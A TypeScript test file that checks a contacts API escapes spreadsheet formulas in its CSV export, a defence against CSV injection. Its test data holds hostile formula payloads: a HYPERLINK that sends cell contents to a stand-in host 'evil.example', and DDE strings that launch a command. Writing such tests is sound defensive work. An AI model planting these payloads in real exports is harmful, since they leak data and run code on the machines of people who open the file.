import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { AUTH, testMock } from '../test-client.ts';
import { CSV_COLUMNS } from './contacts-csv.ts';

const P = '/v1/backend';

/** The cells of a CSV text, as csv-parse reads RFC 4180 (quotes, doubled quotes, line breaks). */
const cellsOf = (text: string): string[][] => parse(text, { relax_column_count: true });

describe('CSV export of values a spreadsheet would run', () => {
  // OWASP's "CSV injection": a cell starting with one of = + - @ tab CR is a formula to Excel,
  // LibreOffice and Google Sheets; a leading ' makes it text.
  const formulas = {
    first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    last_name: "+1+cmd|' /C calc'!A0",
    remark: "@SUM(1+1)*cmd|' /C calc'!A0",
    display_name: "-2+3+cmd|' /C calc'!A0",
    company_name: '\t=1+2',
    language: '\r=1+2',
  };

  it('escapes every cell that begins like a formula, written through the API first', async () => {
    const { request } = testMock({ contacts: 5 });
    const created = await request(`${P}/contacts`, {
      method: 'POST',
      headers: AUTH,
      json: {
        channel_type: 'email',
        first_name: formulas.first_name,
        last_name: formulas.last_name,
        remark: formulas.remark,
      },
    });
    expect(created.status).toBe(200);
    const id = created.body.id ?? created.body.data?.id;
    const { status } = await request(`${P}/contacts/${id}`, {
      method: 'PUT',
      headers: AUTH,
      json: {
        display_name: formulas.display_name,
        company_name: formulas.company_name,
        language: formulas.language,
      },
    });
    expect(status).toBe(200);

    const answer = await request(`${P}/contacts/_export_csv`, { headers: AUTH });
    const rows = cellsOf(answer.body);
    const row = rows.find((r) => r[CSV_COLUMNS.indexOf('id')] === id)!;
    const cell = (column: string) => row[CSV_COLUMNS.indexOf(column)];
    expect(cell('first_name')).toBe(`'${formulas.first_name}`);
    expect(cell('last_name')).toBe(`'${formulas.last_name}`);
    expect(cell('remark')).toBe(`'${formulas.remark}`);
    expect(cell('display_name')).toBe(`'${formulas.display_name}`);
    expect(cell('company_name')).toBe(`'${formulas.company_name}`);
    expect(cell('language')).toBe(`'${formulas.language}`);
    // Nothing else in the export starts like a formula.
    const risky = rows.flat().filter((value) => /^[=+\-@\t\r]/.test(value));
    expect(risky).toEqual([]);
  });
});
